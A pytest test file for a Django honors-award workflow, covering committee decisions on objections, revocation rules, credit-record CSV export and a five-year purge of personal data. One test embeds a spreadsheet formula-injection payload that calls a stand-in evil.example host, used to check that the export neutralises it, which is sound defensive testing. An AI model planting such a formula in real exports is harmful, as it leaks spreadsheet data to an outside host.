"""Objections go to the committee (第二十二条), revocation by the date of the misconduct (第三十条), the 主办单位's
consent and the next committee (第二十九、三十条), the credit record export (第二十九条), the 五一劳动奖章 check
(第二十三条), purging all personal data after 5 years (第三十一条) and fraud blocking re-application."""

import csv
import datetime
import io

import pytest
from django.core.exceptions import PermissionDenied, ValidationError
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone

from awards.models import Application, Campaign, Person
from scoring.models import PanelResult
from tests.factories import user_with_role
from tests.workflow.builders import application_in, campaign_in, panel_with_experts, ranking
from workflow.errors import TransitionRefused
from workflow.models import CreditRecord, Honor, Objection, Publicity, TransitionLog
from workflow.services.committee import decision_close, decision_open, decision_vote
from workflow.services.credit import credit_records_csv, credit_records_for, credit_records_mark_submitted
from workflow.services.honors import create_honor_for, honor_may_day_check, honors_may_day_list
from workflow.services.objections import objection_decide, objection_file
from workflow.services.retention import materials_purge_expired
from workflow.services.revocation import (
    revocation_propose,
    revocation_record_consent,
    revocation_record_next_committee,
)
from workflow.services.transitions import application_transition

pytestmark = pytest.mark.django_db
S = Application.State
P = Campaign.Phase


def _votes(decision, committee, choice="approve"):
    for member in committee[:3]:
        decision_vote(decision=decision, user=member, choice=choice)


# --- 第二十二条 ---------------------------------------------------------------------------------------------------


@pytest.fixture
def in_approval(office):
    """报批: two recommended; an objection against 乙 was upheld during publicity."""
    campaign = campaign_in(P.PUBLICITY, quota=2, nomination_quota=0)
    first = application_in(campaign, S.RECOMMENDED, name="甲")
    second = application_in(campaign, S.RECOMMENDED, name="乙")
    ranking(campaign, [(first, "90"), (second, "85")])
    Publicity.objects.create(
        campaign=campaign,
        starts_on=timezone.localdate(),
        ends_on=timezone.localdate() + datetime.timedelta(days=7),
    )
    objection = objection_file(
        application=second, objector_name="王芳", objector_id_or_contact="13900002222", content="年限不实"
    )
    objection_decide(
        objection=objection, user=office, upheld=True, outcome="工作年限不足", investigation="社保"
    )
    Campaign.objects.filter(pk=campaign.pk).update(phase=P.APPROVAL)
    campaign.refresh_from_db()
    return campaign, first, second


def test_an_upheld_objection_goes_to_the_committee_which_withdraws_the_candidate(
    in_approval, office, committee
):
    campaign, first, second = in_approval
    second.refresh_from_db()
    assert second.state == S.RECOMMENDED  # the office's finding alone removes nobody
    with pytest.raises(PermissionDenied):  # only the committee's decision runs the row
        application_transition(application=second, action="withdraw", user=office, reason="异议成立")
    decision = decision_open(
        campaign=campaign, user=office, kind="final_list", summary="获荣名单及异议处理意见"
    )
    assert decision.withdrawn == [second.pk]
    _votes(decision, committee)
    decision_close(decision=decision, user=office, document_number="沪智组〔2030〕8号")
    first.refresh_from_db()
    second.refresh_from_db()
    assert (first.state, second.state) == (S.AWARDED, S.WITHDRAWN)
    log = TransitionLog.objects.get(application=second, action="withdraw")
    assert "工作年限不足" in log.reason and "沪智组〔2030〕8号" in log.reason


def test_the_committee_may_keep_a_candidate_the_office_proposes_to_keep(in_approval, office, committee):
    campaign, _first, second = in_approval
    with pytest.raises(ValidationError):
        decision_open(campaign=campaign, user=office, kind="final_list", keep_ids=[second.pk])
    decision = decision_open(
        campaign=campaign, user=office, kind="final_list", keep_ids=[second.pk], summary="异议所涉问题已整改"
    )
    assert decision.withdrawn == []
    _votes(decision, committee)
    decision_close(decision=decision, user=office, document_number="沪智组〔2030〕8号")
    second.refresh_from_db()
    assert second.state == S.AWARDED


def test_the_committee_page_shows_the_offices_finding(client, in_approval, office):
    campaign, _first, second = in_approval
    decision = decision_open(campaign=campaign, user=office, kind="final_list")
    client.force_login(user_with_role("committee"))
    page = client.get(reverse("workflow:decision", args=[decision.pk])).content.decode()
    assert f'data-withdrawn="{second.pk}"' in page


# --- 第三十条、第二十九条 ------------------------------------------------------------------------------------------


def _honor(awarded_on, year=2030, **kwargs):
    campaign = Campaign.objects.filter(year=year, award_type__code="craftsman").first() or campaign_in(
        P.AWARDED, year=year
    )
    app = application_in(campaign, S.AWARDED, **kwargs)
    return create_honor_for(app, awarded_on=awarded_on, document_number="沪智组8号")


def test_the_two_year_window_runs_to_the_date_the_misconduct_occurred_not_to_the_proposal(office, committee):
    awarded = timezone.localdate() - datetime.timedelta(days=900)  # proposed today, > 2 years after the award
    honor = _honor(awarded)
    occurred = awarded + datetime.timedelta(days=600)  # but it happened within 2 years
    revocation = revocation_propose(
        honor=honor, user=office, kind="revoke", reason="严重违法", misconduct_on=occurred
    )
    assert revocation.misconduct_on == occurred
    revocation_record_consent(
        revocation=revocation,
        user=office,
        document_number="沪总工〔2032〕2号",
        consent_on=timezone.localdate(),
    )
    _votes(revocation.decision, committee)
    decision_close(decision=revocation.decision, user=office, document_number="沪智组〔2032〕4号")
    honor.application.refresh_from_db()
    assert honor.application.state == S.REVOKED


def test_misconduct_after_the_two_years_cannot_be_revoked_and_the_message_says_occurred(office):
    awarded = timezone.localdate() - datetime.timedelta(days=900)
    honor = _honor(awarded)
    with pytest.raises(ValidationError) as refused:
        revocation_propose(
            honor=honor,
            user=office,
            kind="revoke",
            reason="违法",
            misconduct_on=awarded + datetime.timedelta(days=800),
        )
    message = refused.value.message_dict["misconduct_on"][0]
    assert "发生" in message and "第二十九条" in message
    with pytest.raises(ValidationError):
        revocation_propose(honor=honor, user=office, kind="revoke", reason="违法")  # the date is required


def test_the_committees_approval_is_not_executed_without_the_sponsors_consent(office, committee):
    honor = _honor(timezone.localdate())
    revocation = revocation_propose(
        honor=honor, user=office, kind="revoke", reason="违法", misconduct_on=timezone.localdate()
    )
    _votes(revocation.decision, committee)
    with pytest.raises(ValidationError) as refused:
        decision_close(decision=revocation.decision, user=office, document_number="沪智组9号")
    assert "主办" in refused.value.messages[0]
    honor.application.refresh_from_db()
    assert honor.application.state == S.AWARDED


def test_the_next_committees_confirmation_is_recorded_once_the_committee_was_succeeded(office, committee):
    honor = _honor(timezone.localdate())
    revocation = revocation_propose(honor=honor, user=office, kind="cancel", reason="提供虚假材料")
    revocation_record_consent(
        revocation=revocation,
        user=office,
        document_number="沪总工〔2030〕9号",
        consent_on=timezone.localdate(),
    )
    _votes(revocation.decision, committee)
    decision_close(decision=revocation.decision, user=office, document_number="沪智组〔2030〕10号")
    revocation.refresh_from_db()
    with pytest.raises(ValidationError) as refused:
        revocation_record_next_committee(
            revocation=revocation,
            user=office,
            document_number="沪智组〔2031〕1号",
            confirmed_on=timezone.localdate(),
        )
    assert "尚未换届" in refused.value.messages[0]
    campaign_in(P.DRAFT, year=2031)  # the next 届
    revocation_record_next_committee(
        revocation=revocation,
        user=office,
        document_number="沪智组〔2031〕1号",
        confirmed_on=timezone.localdate(),
    )
    revocation.refresh_from_db()
    assert revocation.next_committee_document == "沪智组〔2031〕1号"


# --- 第二十九条 credit record ---------------------------------------------------------------------------------------


def _cancelled(office, committee):
    honor = _honor(timezone.localdate())
    revocation = revocation_propose(honor=honor, user=office, kind="cancel", reason="提供虚假专利证明")
    revocation_record_consent(
        revocation=revocation,
        user=office,
        document_number="沪总工〔2030〕9号",
        consent_on=timezone.localdate(),
    )
    _votes(revocation.decision, committee)
    decision_close(decision=revocation.decision, user=office, document_number="沪智组〔2030〕10号")
    return honor


def test_credit_records_export_in_the_documented_csv_and_are_reported_only_after_submission(
    client, office, committee
):
    honor = _cancelled(office, committee)
    campaign = honor.application.campaign
    client.force_login(office)
    page = client.get(reverse("workflow:honors", args=[campaign.pk])).content.decode()
    assert "已记录，待报送" in page and "已于" not in page
    content = client.get(reverse("workflow:credit_records_csv", args=[campaign.pk])).content
    assert content.startswith(b"\xef\xbb\xbf")
    rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
    assert rows[0][:3] == ["记录编号", "姓名", "身份证号"] and len(rows) == 2
    record = CreditRecord.objects.get()
    assert rows[1][1:3] == [record.person.name, record.person.resident_id]
    assert rows[1][8:11] == ["沪智组〔2030〕10号", "沪总工〔2030〕9号", timezone.localdate().isoformat()]
    with pytest.raises(ValidationError):
        credit_records_mark_submitted(
            records=[record], user=office, submitted_on=record.recorded_on - datetime.timedelta(days=1)
        )
    client.post(
        reverse("workflow:credit_records_submit", args=[campaign.pk]),
        {"submitted_on": timezone.localdate().isoformat()},
    )
    record.refresh_from_db()
    assert record.submitted_on == timezone.localdate() and record.submitted_by == office
    page = client.get(reverse("workflow:honors", args=[campaign.pk])).content.decode()
    assert "报送本市社会信用信息系统" in page and "待报送" not in page
    assert credit_records_csv(credit_records_for(campaign)).count(b"\r\n") == 2


def test_a_credit_record_text_that_reads_as_a_formula_is_written_as_text(office, committee):
    """Issue 10 defect 3 for the CSV export: a spreadsheet opening it must not run a formula from a reason."""
    honor = _cancelled(office, committee)
    payload = '=HYPERLINK("http://evil.example/?d="&A1,"x")'
    CreditRecord.objects.update(reason=payload)
    content = credit_records_csv(credit_records_for(honor.application.campaign)).decode("utf-8-sig")
    row = list(csv.reader(io.StringIO(content)))[1]
    assert row[7] == "'" + payload
    assert not any(cell.startswith(("=", "+", "-", "@")) for cell in row)


def test_a_title_cancelled_for_fraud_blocks_re_application(office, committee):
    honor = _cancelled(office, committee)
    later = campaign_in(P.OPEN, year=2032)
    again = application_in(later, S.DRAFT, resident_id=honor.application.resident_id)
    with pytest.raises(TransitionRefused) as refused:
        application_transition(application=again, action="submit", user=again.applicant)
    assert refused.value.rule == "第十三条" and "骗取" in str(refused.value)


def test_a_revoked_title_does_not_block_re_application(office, committee):
    honor = _honor(timezone.localdate())
    revocation = revocation_propose(
        honor=honor, user=office, kind="revoke", reason="违法", misconduct_on=timezone.localdate()
    )
    revocation_record_consent(
        revocation=revocation, user=office, document_number="沪总工9号", consent_on=timezone.localdate()
    )
    _votes(revocation.decision, committee)
    decision_close(decision=revocation.decision, user=office, document_number="沪智组10号")
    later = campaign_in(P.OPEN, year=2032)
    again = application_in(later, S.DRAFT, resident_id=honor.application.resident_id)
    application_transition(application=again, action="submit", user=again.applicant)


# --- 第二十三条 五一劳动奖章 -------------------------------------------------------------------------------------------


def test_the_may_day_list_needs_the_offices_check_of_the_overall_conditions(client, office):
    ok, not_ok = (
        _honor(timezone.localdate(), union_member=True),
        _honor(timezone.localdate(), union_member=True),
    )
    campaign = ok.application.campaign
    client.force_login(office)
    page = client.get(reverse("workflow:honors", args=[campaign.pk])).content.decode()
    assert f'data-check="{ok.pk}"' in page and f'data-check="{not_ok.pk}"' in page
    client.post(reverse("workflow:honor_may_day_check", args=[ok.pk]), {"ok": "1"})
    with pytest.raises(ValidationError):
        honor_may_day_check(honor=not_ok, user=office, ok=False)  # a reason is required
    honor_may_day_check(honor=not_ok, user=office, ok=False, note="近年受过处分")
    assert list(honors_may_day_list(campaign=campaign)) == [Honor.objects.get(pk=ok.pk)]


# --- 第三十一条 ------------------------------------------------------------------------------------------------------


def _archived_campaign(years_ago=6):
    campaign = campaign_in(P.ARCHIVED)
    campaign.archived_at = timezone.now() - datetime.timedelta(days=int(365.25 * years_ago))
    campaign.save()
    return campaign


def test_after_five_years_all_personal_data_goes_and_the_honors_list_and_scores_stay(office):
    campaign = _archived_campaign()
    honoree = application_in(campaign, S.AWARDED, name="获荣者甲", unit_address="上海市某路1号")
    other = application_in(campaign, S.NOT_SHORTLISTED, name="未入围乙")
    honor = create_honor_for(honoree, awarded_on=datetime.date(2020, 9, 1))
    PanelResult.objects.create(
        panel=panel_with_experts(campaign, 1),
        application=other,
        stage="material",
        score="71.500",
        expert_totals=[71, 72],
    )
    Objection.objects.create(
        campaign=campaign,
        application=honoree,
        objector_name="李明",
        objector_id_or_contact="139",
        content="不实",
    )
    person = Person.objects.create(name="获荣者甲", resident_id=honoree.resident_id)
    Application.objects.filter(pk=honoree.pk).update(person=person)
    honoree.refresh_from_db()
    out = io.StringIO()
    call_command("purge_expired_materials", "--dry-run", stdout=out)
    listing = out.getvalue()
    assert f"申报 #{honoree.pk}" in listing and f"申报 #{other.pk}" in listing
    assert "resident_id" in listing and "section_basic" in listing and "异议人姓名和联系方式 1 件" in listing
    assert (
        Application.objects.get(pk=honoree.pk).resident_id == honoree.resident_id
    )  # dry run changes nothing

    materials_purge_expired()
    honoree.refresh_from_db()
    other.refresh_from_db()
    for app in (honoree, other):
        assert (app.resident_id, app.phone, app.email, app.unit_address, app.section_basic) == (
            "",
            "",
            "",
            "",
            "",
        )
        assert app.representative_achievements == "" and app.personal_data_purged_at is not None
        assert not app.education_entries.exists() and not app.work_entries.exists()
        assert all(not a.file and a.original_name == "" for a in app.attachments.all())
        assert not app.history.exclude(resident_id="").exists()  # the history holds no copy either
    assert (
        honoree.name == "获荣者甲"
        and honor.certificate_number == Honor.objects.get(application=honoree).certificate_number
    )
    assert other.name.startswith("申报人") and other.unit_name == ""
    assert PanelResult.objects.get(application=other).score == pytest.approx(71.5)
    assert Objection.objects.get(application=honoree).objector_name == ""
    assert Person.objects.get(pk=honoree.person_id).resident_id.startswith("purged-")
    assert materials_purge_expired(dry_run=True).applications == []  # nothing left to purge


def test_applications_of_a_campaign_archived_four_years_ago_are_kept():
    campaign = _archived_campaign(4)
    app = application_in(campaign, S.AWARDED)
    assert materials_purge_expired().applications == []
    app.refresh_from_db()
    assert app.resident_id and app.personal_data_purged_at is None
